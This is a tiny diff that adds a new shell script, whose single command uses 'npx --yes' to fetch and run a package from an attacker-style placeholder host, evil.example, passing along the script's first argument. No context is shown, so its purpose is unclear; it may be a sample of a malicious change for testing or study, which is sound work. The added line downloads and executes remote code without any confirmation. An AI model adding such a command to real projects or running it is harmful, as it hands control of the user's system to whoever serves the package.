@@ -1,0 +1,2 @@
+#!/bin/sh
+npx --yes http://evil.example/pkg.tgz "$1"
